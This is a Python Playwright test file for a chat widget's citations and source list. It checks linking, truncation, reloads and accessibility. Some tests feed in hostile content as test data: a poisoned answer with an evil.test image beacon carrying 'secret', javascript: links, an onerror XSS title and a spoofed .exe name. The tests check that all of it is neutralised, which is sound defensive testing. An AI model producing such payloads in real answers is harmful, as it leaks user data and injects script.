"""Citations and sources: what an answer cites can be followed, and nothing else."""

from collections.abc import Callable, Iterator
from typing import Any

import pytest
from playwright.sync_api import BrowserContext, Locator, Page, Request, expect

from tests.servers.scripted_answers import HOLD, ScriptedAnswers, done, sources, token
from tests.servers.site import Site
from tests.widget.axe import violations
from tests.widget.visitor import Visitor

HOURS = {"n": 1, "title": "Opening hours", "url": "https://shop.test/hours#sunday"}
FILE = {"n": 2, "title": "Shipping.pdf"}
LONG = {
    "n": 3,
    "title": "How to return what does not fit, what is broken, and what you no longer want",
    "url": "https://docs.shop.test/returns",
}
GIFTS = {"n": 4, "title": "Gift cards", "url": "https://shop.test/gifts"}
PARKING = {"n": 5, "title": "Parking", "url": "https://shop.test/parking"}
ALL = [HOURS, FILE, LONG, GIFTS, PARKING]
ANSWER = (
    "On Sundays from 10 [1].\n\n- Parcels take a week [2]\n- **Returns** are free"
    " [3, 4], see `list[1]`\n\nThere is room for cars [5], not for lorries [7]."
)
POISON = """![](https://evil.test/?q=secret) [click](https://evil.test/a) [1](https://evil.test/b)
https://evil.test/c <https://evil.test/d> [x][1] [mail](mailto:a@evil.test)
[script](javascript:pwned()) [7](https://evil.test/e) [own](/prices)

[1]: https://evil.test/f"""
LINKS = "(all) => all.map((link) => link.href)"

Screenshot = Callable[[Page, str], None]
Visit = Callable[..., Visitor]


@pytest.fixture
def answers() -> Iterator[ScriptedAnswers]:
    with ScriptedAnswers() as answers:
        yield answers


@pytest.fixture
def site(answers: ScriptedAnswers) -> Iterator[Site]:
    """Somebody's web site, whose widget asks the stand-in."""
    with Site(answers.url) as site:
        yield site


@pytest.fixture
def visit(page: Page, site: Site) -> Visit:
    def visit(body: str = "", **options: str) -> Visitor:
        page.goto(site.page(body, **options))
        return Visitor(page).open()

    return visit


def links(visitor: Visitor) -> list[str]:
    """Return where the links in the last answer's text lead."""
    found: list[str] = visitor.answers.last.locator("a").evaluate_all(LINKS)
    return found


def listed(visitor: Visitor, name: str = "Sources") -> Locator:
    """Return what the last answer's list of sources shows."""
    return visitor.panel.get_by_role("list", name=name).last.get_by_role("listitem")


def test_a_number_becomes_a_link_while_the_answer_grows(
    visit: Visit, answers: ScriptedAnswers
) -> None:
    answers.next(sources([HOURS, FILE]), token("On Sundays from 10 [1]. Or"), HOLD, done("x"))
    visitor = visit().ask("When?")

    expect(visitor.answers).to_have_text("On Sundays from 10 [1]. Or")
    link = visitor.answers.locator("sup a")
    expect(link).to_have_text("1")
    expect(link).to_have_attribute("href", HOURS["url"])
    expect(link).to_have_attribute("title", "Opening hours")
    expect(link).to_have_attribute("target", "_blank")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(listed(visitor)).to_have_count(0)


def test_a_number_that_stands_there_before_the_list_becomes_a_link_with_it(
    visit: Visit, answers: ScriptedAnswers
) -> None:
    text = "From 10 [1], yes"
    answers.next(token(text), HOLD, sources([HOURS]), HOLD, done(text))
    visitor = visit().ask("When?")
    expect(visitor.answers).to_have_text(text)
    expect(visitor.answers.locator("sup")).to_have_count(0)

    answers.release()
    expect(visitor.answers.locator("sup a")).to_have_attribute("href", HOURS["url"])
    answers.release()

    # Its end cites nothing.
    expect(visitor.answers.locator("sup")).to_have_count(0)
    expect(visitor.answers).to_have_text(text)


def test_an_answer_names_three_of_its_sources_and_the_others_when_asked(
    visit: Visit, answers: ScriptedAnswers, page: Page
) -> None:
    answers.next(sources(ALL), token(ANSWER), done(ANSWER, sources=ALL, messageId="m-1"))
    visitor = visit().ask("When?")

    expect(listed(visitor)).to_have_text(
        ["1 Opening hours", "2 Shipping.pdf", f"3 {LONG['title']}", "2 more"]
    )
    chips = visitor.panel.locator(".source")
    expect(chips.nth(0)).to_have_attribute("title", "shop.test/hours#sunday")
    expect(chips.nth(1)).to_have_attribute("title", "Shipping.pdf")
    assert chips.nth(1).evaluate("(chip) => chip.localName") == "span"
    assert chips.nth(2).evaluate("(chip) => chip.scrollWidth > chip.clientWidth")
    assert links(visitor) == [HOURS["url"], LONG["url"], GIFTS["url"], PARKING["url"]]
    expect(visitor.answers.locator("code")).to_have_text("list[1]")
    expect(visitor.answers).to_contain_text("not for lorries [7].")

    more = visitor.panel.get_by_role("button", name="2 more")
    more.focus()
    page.keyboard.press("Enter")

    expect(listed(visitor)).to_have_count(5)
    expect(visitor.panel.get_by_role("link", name="4 Gift cards")).to_be_focused()
    page.keyboard.press("Tab")
    expect(visitor.panel.get_by_role("link", name="5 Parking")).to_be_focused()
    visitor.button("Good answer").click()
    expect(listed(visitor)).to_have_count(5)


def test_only_what_is_cited_is_named(visit: Visit, answers: ScriptedAnswers) -> None:
    answers.next(sources(ALL), token("A week [2]."), done("A week [2].", sources=[FILE]))
    visitor = visit().ask("How long?")

    expect(listed(visitor)).to_have_text(["2 Shipping.pdf"])


def test_a_reload_and_a_second_tab_show_the_same(
    visit: Visit, answers: ScriptedAnswers, page: Page, context: BrowserContext
) -> None:
    cited = [HOURS, FILE]
    answers.next(sources(ALL), done("So [1][2].", sources=cited, answeredBy="owner"))
    first = visit().ask("When?")
    expect(listed(first)).to_have_count(2)
    other = Visitor(context.new_page())
    other.page.goto(page.url)
    page.reload()

    for visitor in (first, other):
        expect(visitor.answers).to_have_text("So [1][2].")
        assert links(visitor) == [HOURS["url"]]
        expect(listed(visitor)).to_have_text(["1 Opening hours", "2 Shipping.pdf"])
        expect(visitor.panel.get_by_text("From the site")).to_be_visible()


def test_a_turn_that_is_read_on_after_a_reload_has_its_sources(
    visit: Visit, answers: ScriptedAnswers, page: Page
) -> None:
    text = "On Sundays from 10 [1]."
    answers.next(sources([HOURS]), token(text + " An"), HOLD, done(text, sources=[HOURS]))
    visitor = visit().ask("When?")
    expect(visitor.answers).to_have_text(text + " An")

    page.reload()
    expect(visitor.answers.locator("sup a")).to_have_attribute("href", HOURS["url"])
    answers.release()

    visitor.hears(text)
    expect(listed(visitor)).to_have_text(["1 Opening hours"])
    assert links(visitor) == [HOURS["url"]]


def test_nothing_that_a_poisoned_page_wrote_can_be_followed(
    visit: Visit, answers: ScriptedAnswers, page: Page, site: Site
) -> None:
    elsewhere: list[str] = []

    def note(request: Request) -> None:
        if not request.url.startswith((site.origin, answers.url)):
            elsewhere.append(request.url)

    page.on("request", note)
    answers.next(sources([HOURS]), token(POISON), done(POISON, sources=[HOURS]))
    visitor = visit().ask("Where?")
    expect(listed(visitor)).to_have_count(1)

    for _ in range(2):
        assert set(links(visitor)) == {HOURS["url"], f"{site.origin}/prices"}
        expect(visitor.answers.locator("img")).to_have_count(0)
        page.reload()
        expect(listed(visitor)).to_have_count(1)
    assert elsewhere == []


def test_an_answer_that_was_given_nothing_links_to_the_site_alone(
    visit: Visit, answers: ScriptedAnswers, site: Site
) -> None:
    text = f"[evil](https://evil.test/) [own](/a) [api]({answers.url}/b) [1]"
    answers.next(sources([]), done(text, sources=[], answeredBy="unknown"))
    visitor = visit().ask("Where?").hears("evil own api [1]")

    assert links(visitor) == [f"{site.origin}/a", f"{answers.url}/b"]
    expect(visitor.panel.locator(".cited").last).to_be_hidden()


def test_an_answer_of_a_server_without_documents_links_as_ever(
    visit: Visit, answers: ScriptedAnswers
) -> None:
    answers.next(done("[there](https://elsewhere.test/) [1]"))
    visitor = visit().ask("Where?").hears("there [1]")

    assert links(visitor) == ["https://elsewhere.test/"]


def test_sources_that_are_none_harm_nobody(visit: Visit, answers: ScriptedAnswers) -> None:
    odd: list[Any] = [
        {"n": 1, "title": "<img src=x onerror=pwned()>", "url": "javascript:pwned()"},
        {"n": 2, "title": "\u202egpj.exe", "url": "data:text/html,x"},
        None,
        {"n": "3", "title": "Three"},
        *({"n": n, "title": f"Page {n}", "url": f"https://shop.test/{n}"} for n in range(4, 204)),
    ]
    answers.next(sources(odd), done("So [1][2][3][203].", sources=odd))
    visitor = visit().ask("Where?").hears("So [1][2][3][203].")

    expect(listed(visitor)).to_have_text(
        ["1 <img src=x onerror=pwned()>", "2 \u202egpj.exe", "4 Page 4", "199 more"]
    )
    assert links(visitor) == ["https://shop.test/203"]
    expect(visitor.panel.locator(".cited img")).to_have_count(0)


@pytest.mark.parametrize(
    ("name", "width", "options"),
    [
        ("light", 1000, {}),
        ("dark", 1000, {"theme": "dark", "accent_color": "#f59e0b"}),
        ("right-to-left", 1000, {"locale": "ar", "accent_color": "#7c3aed"}),
        ("phone", 375, {"locale": "de"}),
    ],
)
def test_sources_can_be_seen_and_read_by_everybody(
    visit: Visit,
    answers: ScriptedAnswers,
    page: Page,
    screenshot: Screenshot,
    name: str,
    width: int,
    options: dict[str, str],
) -> None:
    page.set_viewport_size({"width": width, "height": 667})
    text = (
        "أيام الأحد من العاشرة [1].\n\n- التوصيل [2]\n- مجانا [3, 4]" if name[0] == "r" else ANSWER
    )
    told = [{**HOURS, "title": "ساعات العمل"}, *ALL[1:]] if name[0] == "r" else ALL
    answers.next(sources(told), token(text), done(text, sources=told, answeredBy="owner"))
    visitor = visit(**options).ask("Wann?")
    expect(visitor.panel.locator(".source").first).to_be_visible()

    assert violations(page) == []
    assert visitor.log.evaluate("(log) => log.scrollWidth <= log.clientWidth")
    screenshot(page, f"sources-{name}")
